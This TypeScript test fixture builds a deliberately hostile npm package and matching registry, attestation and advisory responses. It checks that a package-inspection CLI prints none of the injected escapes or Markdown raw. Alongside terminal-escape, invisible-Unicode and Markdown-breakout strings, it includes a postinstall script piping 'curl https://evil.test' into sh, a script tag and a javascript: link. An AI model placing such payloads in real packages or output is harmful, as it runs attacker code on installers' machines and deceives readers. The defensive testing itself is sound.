/**
 * A package whose every printed field is hostile: the registry, the tarball, the downloads
 * API, the attestation and OSV all answer with text that tries to drive the terminal (ANSI
 * CSI and OSC escapes, C1 controls, carriage returns, backspaces), to reorder or hide text
 * (bidirectional overrides, zero-width, tag and other format characters, variation selectors,
 * blank fillers) or to break out of a Markdown
 * table (pipes, headings, links, images, raw HTML, mentions). And the checks that find what
 * is printed in the output: none of it raw.
 */
import { makeTarball } from '../../support/tarball.js';
import type { FixtureServer } from '../../support/fixture-server.js';
import { HOSTILE } from '../../render/reports.js';
import { expectPackage, fixtureDependencies, fixturePackage } from '../../cli/helpers.js';
import { integrityOf } from './hostile-tarballs.js';
import { ADVISORY_ID, ADVISORY_PATH, ADVISORY_RECORD, ATTESTATIONS_PATH, PACKAGE, recordedPackument, VERSION } from './sources.js';

/**
 * More than test/render's HOSTILE: 8-bit CSI, DCS, a title-setting OSC, NEL, line and
 * paragraph separators, a right-to-left mark, an isolate, tag characters ("ASCII smuggling"),
 * a soft hyphen, variation selectors (a run of them carries hidden bytes), Hangul fillers, a
 * combining grapheme joiner, a musical format control, an Arabic number sign, CR LF,
 * backspace, DEL, NUL, and Markdown that would end the table, open a heading, close
 * the `<details>` block, comment out the rest, embed an image, define a link or run a script.
 */
export const EXTRA =
  '\u009b31mC1csi \u001bP1$r\u001b\\ \u001b]0;pwned\u0007 NEL\u0085 LS\u2028 PS\u2029 RLM\u200f LRI\u2066 TAG\u{E0041}\u{E0042} SHY\u00ad VS\u{E0100}\u{E0101}\ufe01 FILL\u3164\u115f CGJ\u034f MUS\u{1D173} NUM\u0600 CRLF\r\n BS\b DEL\u007f NUL\u0000 \u001b[5mblink\u001b[38;5;196m' +
  '\n| --- | --- |\n# heading </details> <!-- ![img](http://evil.test/x.png) [ref]: http://evil.test `code` <script>alert(1)</script> &lt; $$x$$ ~~s~~';

export const EVIL = `${HOSTILE} ${EXTRA}`;

/**
 * Characters that must never reach a terminal or a Markdown document raw. The text and emoji
 * presentation selectors (U+FE0E, U+FE0F) are left out: nerq's own marks use them (`⚠️`).
 */
export const FORBIDDEN =
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u034f\u115f\u1160\u3164\uffa0\ufe00-\ufe0d\p{Cf}]|[\u{e0100}-\u{e01ef}]/u;

/** nerq's own colours (chalk's SGR sequences), the only escapes allowed in a coloured table. */
const OWN_SGR = /\u001b\[(?:\d{1,3}(?:;\d{1,3})*)?m/g;
/** SGR codes only the hostile text uses: blink, and a 256-colour red. */
const HOSTILE_SGR = /\u001b\[5m|\u001b\[38;5;196m/;

/** The first forbidden character in `text` (after nerq's own colours when `color`), as a readable excerpt. */
export function forbiddenIn(text: string, color = false): string | null {
  if (color && HOSTILE_SGR.test(text)) return `a hostile SGR sequence: ${JSON.stringify(HOSTILE_SGR.exec(text)?.[0])}`;
  const plain = color ? text.replace(OWN_SGR, '') : text;
  const match = FORBIDDEN.exec(plain);
  if (match === null) return null;
  const at = match.index;
  return `U+${match[0].codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')} in ${JSON.stringify(plain.slice(Math.max(0, at - 40), at + 20))}`;
}

/**
 * Markdown that escaped its cell: a table row whose unescaped pipes differ from its header's,
 * a raw HTML tag nerq does not write itself, a link, an image or a mention. Null when clean.
 */
export function markdownBreakout(markdown: string): string | null {
  // Inside `<summary>` (an HTML block) Markdown is not parsed: its text only has to be escaped HTML.
  const lines = markdown.split('\n');
  const markdownLines = lines.filter((line) => !line.startsWith('<summary>')).join('\n');
  const cells = (line: string) => line.replace(/\\\\/g, '').split(/(?<!\\)\|/).length;
  let header: number | null = null;
  for (const line of lines) {
    if (!line.startsWith('|')) {
      header = null;
      continue;
    }
    if (header === null) header = cells(line);
    else if (cells(line) !== header) return `a table row with ${cells(line)} cells under a ${header}-cell header: ${line.slice(0, 120)}`;
  }
  // A code span (a run of n backticks, its text, n backticks again) is literal text in
  // CommonMark: no tag, link or mention inside it is read. What is left is what a renderer reads.
  const outsideCode = (text: string) => text.replace(/(?<![`\\])(`+)(?!`)[^\n]*?(?<!`)\1(?!`)/g, '');
  const ownTags = /^<\/?(?:details|summary|code|br|sub|sup)>$/;
  for (const tag of outsideCode(markdown).match(/(?<!\\)<\/?[A-Za-z!][^>\n]*>?/g) ?? []) {
    if (!ownTags.test(tag) && !/^<summary>/.test(tag)) return `raw HTML: ${tag.slice(0, 80)}`;
  }
  // nerq links advisories to osv.dev; any other link target came from the input.
  const link = /(?<!\\)\]\((?!https:\/\/osv\.dev\/vulnerability\/)([^)]*)/.exec(outsideCode(markdownLines));
  if (link !== null) return `a link or image to ${link[1]?.slice(0, 60)}`;
  if (/(?<![\w&#;])@octocat/.test(outsideCode(markdownLines))) return 'a raw @mention';
  if (/^\s{0,3}#{1,6} heading/m.test(markdownLines)) return 'an injected heading';
  return null;
}

// ── the hostile package ───────────────────────────────────────────────────────────────

const README = `# chalk ${EVIL}\n\nTerminal string styling. ${EVIL}\n\n## Install\n\n\`\`\`sh\nnpm install chalk\n\`\`\`\n\n## Usage\n\n${EVIL}\n\n## API\n\nSee below.\n\n## License\n\nMIT\n`;
const MIT = 'MIT License\n\nPermission is hereby granted, free of charge, to any person obtaining a copy of this software.\n\nThe above copyright notice and this permission notice shall be included in all copies or substantial portions of the Software.\n';

export function hostileTarball(): Buffer {
  return makeTarball([
    { path: 'package.json', content: JSON.stringify({ name: PACKAGE, version: VERSION, description: EVIL }) },
    { path: 'README.md', content: README },
    { path: 'LICENSE', content: MIT },
    { path: 'index.js', content: 'module.exports = 1;\n' },
  ]);
}

/**
 * chalk's packument with hostile text in every field nerq prints, vouching for `tarball`.
 * With `hostileName` the packument also renames the package: every URL nerq builds from the
 * name then fails, and those reasons quote it.
 */
export function hostilePackument(tarball: Buffer, hostileName: boolean): object {
  const packument = recordedPackument() as Record<string, unknown> & { versions: Record<string, Record<string, unknown>> };
  const manifest = packument.versions[VERSION]!;
  if (hostileName) packument.name = `chalk${EVIL}`;
  packument.description = EVIL;
  Object.assign(manifest, {
    name: hostileName ? `chalk${EVIL}` : PACKAGE,
    description: EVIL,
    license: `MIT${EVIL}`,
    homepage: `https://evil.test/${EVIL}`,
    bugs: { url: `https://evil.test/issues${EVIL}` },
    repository: { type: 'git', url: `https://evil.test/\u202eexe.git | [x](javascript:alert(1)) ${EVIL}` },
    keywords: ['cli', 'mcp', EVIL],
    deprecated: `Use something else ${EVIL}`,
    _npmUser: { name: `mallory${EVIL}`, email: 'x@evil.test' },
    scripts: { postinstall: `curl https://evil.test | sh ${EVIL}` },
    engines: { node: `>=10 ${EVIL}` },
  });
  const dist = manifest.dist as Record<string, unknown>;
  dist.integrity = integrityOf(tarball);
  delete dist.shasum;
  dist.attestations = { url: `{{REGISTRY}}/-/npm/v1/attestations/${PACKAGE}@${VERSION}`, provenance: { predicateType: 'https://slsa.dev/provenance/v1' } };
  packument.maintainers = [{ name: `eve${EVIL}`, email: 'e@evil.test' }];
  return packument;
}

function hostileAttestations(): object {
  const statement = {
    _type: 'https://in-toto.io/Statement/v1',
    subject: [{ name: `pkg:npm/${PACKAGE}@${VERSION}`, digest: { sha512: 'ab'.repeat(64) } }],
    predicateType: 'https://slsa.dev/provenance/v1',
    predicate: {
      buildDefinition: {
        externalParameters: { workflow: { ref: `refs/tags/${EVIL}`, repository: `https://evil.test/${EVIL}`, path: `.github/workflows/${EVIL}.yml` } },
        resolvedDependencies: [{ uri: `git+https://evil.test/x@refs/tags/${EVIL}`, digest: { gitCommit: EVIL } }],
      },
      runDetails: { builder: { id: `https://evil.test/builder${EVIL}` } },
    },
  };
  return {
    attestations: [
      { predicateType: 'https://slsa.dev/provenance/v1', bundle: { dsseEnvelope: { payload: Buffer.from(JSON.stringify(statement)).toString('base64'), payloadType: 'application/vnd.in-toto+json', signatures: [] } } },
    ],
  };
}

const HOSTILE_ADVISORY = {
  ...ADVISORY_RECORD,
  summary: `Prototype pollution ${EVIL}`,
  details: EVIL,
  aliases: [`CVE-2024-0001${EVIL}`, EVIL],
  published: `2024-01-01${EVIL}`,
  severity: [{ type: 'CVSS_V3', score: `CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H${EVIL}` }],
  database_specific: { severity: `HIGH${EVIL}` },
  affected: [{ package: { ecosystem: 'npm', name: PACKAGE }, ranges: [{ type: 'SEMVER', events: [{ introduced: '0' }, { fixed: `4.1.1${EVIL}` }, { fixed: '4.1.1' }] }] }],
};

/** Declare the hostile package's routes on `server` (every source answers, with hostile text). */
export function hostileWorld(server: FixtureServer, options: { hostileName: boolean }): void {
  const tarball = hostileTarball();
  // OSV is asked about the name the packument gives: answer the advisory for any query but the
  // dependencies' (asked in a batch of their own).
  const dependencies = Object.keys(fixtureDependencies(fixturePackage(PACKAGE)));
  expectPackage(server, PACKAGE, {
    packument: { body: hostilePackument(tarball, options.hostileName) },
    tarball: { body: tarball },
    downloads: { status: 200, body: { error: `package not found ${EVIL}` } },
    osv: (_req, res, { body }) => {
      const queries = (JSON.parse(body.toString('utf8')) as { queries: { package: { name: string } }[] }).queries;
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ results: queries.map((q) => (dependencies.includes(q.package.name) ? {} : { vulns: [{ id: ADVISORY_ID }] })) }));
    },
  });
  server.expect('GET', ATTESTATIONS_PATH, { body: hostileAttestations() });
  server.expect('GET', ADVISORY_PATH, { body: HOSTILE_ADVISORY });
}
